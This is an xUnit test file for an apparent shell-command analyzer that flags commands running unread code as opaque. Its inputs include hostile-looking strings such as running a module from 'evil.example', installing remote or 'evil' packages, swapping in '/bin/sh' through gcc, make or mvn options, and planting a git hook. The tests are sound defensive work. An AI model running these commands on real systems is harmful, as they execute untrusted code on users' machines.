namespace IntentAuthz.Containment.Tests;

/// <summary>Commands that run code which nobody has read: they stay opaque, and it is said which code that is.</summary>
public sealed class CodeTests
{
    private static readonly ShellAnalyzer s_analyzer = new(new ShellAnalyzerOptions { WorkingDirectory = "/w", Home = "/h" });

    [Theory]
    [InlineData("./test.sh -x", "/w/test.sh")]
    [InlineData("bash scripts/setup.sh", "/w/scripts/setup.sh")]
    [InlineData("python3 main.py --flag", "/w/main.py")]
    [InlineData("python3 -m pytest -q", "/w")]
    [InlineData("pytest tests/test_app.py::test_login -x", "/w /w/tests/test_app.py")]
    [InlineData("node index.js", "/w/index.js")]
    [InlineData("cd frontend && npm run build", "/w/frontend /w")]
    [InlineData("npm ci", "/w")]
    [InlineData("yarn install --frozen-lockfile", "/w")]
    [InlineData("dotnet test --filter X", "/w")]
    [InlineData("dotnet run --project src/App", "/w /w/src/App")]
    [InlineData("cargo test", "/w")]
    [InlineData("go test ./pkg/...", "/w /w/pkg")]
    [InlineData("make -j4 test", "/w")]
    [InlineData("make -C /tmp/x", "/tmp/x")]
    [InlineData("make -f /tmp/Makefile", "/w /tmp/Makefile")]
    [InlineData("cmake -S . -B build && cmake --build build", "/w /w/build")]
    [InlineData("gcc -Wall -o hello hello.c && ./hello", "/w/hello.c /w/hello")]
    [InlineData("pip install -r requirements.txt", "/w/requirements.txt")]
    [InlineData("git commit -am x", "/w/.git/hooks")]
    [InlineData("git checkout -b x", "/w/.git/hooks")]
    [InlineData("timeout 60 npm test | tail -5", "/w")]
    public void Analyze_CodeInFiles_OpaqueByThatCodeAlone(string command, string code)
    {
        var analysis = s_analyzer.Analyze(command);
        Assert.True(analysis.IsOpaque && analysis.IsOpaqueByCodeAlone, $"'{command}': {string.Join("; ", analysis.Reasons)}");
        Assert.Equal(code, string.Join(' ', analysis.Code));
    }

    [Theory]
    // Code in the command itself, on a pipe or from elsewhere.
    [InlineData("python3 -c 'import x'")]
    [InlineData("python3 - < x")]
    [InlineData("python3")]
    [InlineData("python3 -i x.py")]
    [InlineData("python3 -W error::evil.X x.py")]
    [InlineData("python3 -m http.server")]
    [InlineData("python3 \"$x\"")]
    [InlineData("node")]
    [InlineData("node -")]
    [InlineData("node -e 1")]
    [InlineData("node *.js")]
    [InlineData("node -r /tmp/x index.js")]
    [InlineData("node inspect /tmp/x.js")]
    [InlineData("npm install left-pad")]
    [InlineData("npm exec sh")]
    [InlineData("npm --prefix /tmp/x test")]
    [InlineData("npx prettier .")]
    [InlineData("pip install evil")]
    [InlineData("pip install -r https://h/r.txt")]
    [InlineData("go run evil.example/x@latest")]
    // Options and operands that put other code in its place.
    [InlineData("make SHELL=/tmp/x")]
    [InlineData("make --eval=x")]
    [InlineData("make \"$x\"")]
    [InlineData("cmake -P x.cmake")]
    [InlineData("cmake --build build -- SHELL=x")]
    [InlineData("dotnet build -p:CustomAfterMicrosoftCommonTargets=/tmp/x")]
    [InlineData("dotnet build -logger:/tmp/x.dll")]
    [InlineData("dotnet test --test-adapter-path /tmp")]
    [InlineData("cargo --config x build")]
    [InlineData("cargo +nightly build")]
    [InlineData("go build -toolexec=x ./...")]
    [InlineData("go test -exec x")]
    [InlineData("pytest -p evil")]
    [InlineData("pytest -o python_files=x")]
    [InlineData("mvn exec:exec -Dexec.executable=sh")]
    [InlineData("gcc -wrapper /bin/sh,-s .")]
    [InlineData("gcc -fplugin=./x.so a.c")]
    [InlineData("gcc -Wl,-o,x a.c")]
    [InlineData("gcc @options")]
    // An editor, a key, a part chosen by hand.
    [InlineData("git commit")]
    [InlineData("git commit --amend")]
    [InlineData("git commit -m x -S")]
    [InlineData("git checkout -p")]
    // Something else beside the code.
    [InlineData("npm test > \"$x\"")]
    [InlineData(". ./env.sh; npm test")]
    [InlineData("PATH=/x npm test")]
    [InlineData("echo x >> .git/hooks/post-commit; git commit -m x")]
    [InlineData("npm test (")]
    public void Analyze_MoreThanCodeInFiles_IsOpaqueForAnotherReasonToo(string command)
    {
        var analysis = s_analyzer.Analyze(command);
        Assert.True(analysis.IsOpaque && !analysis.IsOpaqueByCodeAlone, $"'{command}': {string.Join("; ", analysis.Reasons)}");
    }

    [Fact]
    public void IsOpaqueByCodeAlone_MoreReasonsThanAreKept_IsFalse() =>
        Assert.False(s_analyzer.Analyze(string.Join(';', Enumerable.Range(0, 150).Select(i => $"./x{i}")) + "; eval \"$x\"").IsOpaqueByCodeAlone);

    [Fact]
    public void IsOpaqueByCodeAlone_NothingOpaque_IsFalse() => Assert.False(s_analyzer.Analyze("ls").IsOpaqueByCodeAlone);
}
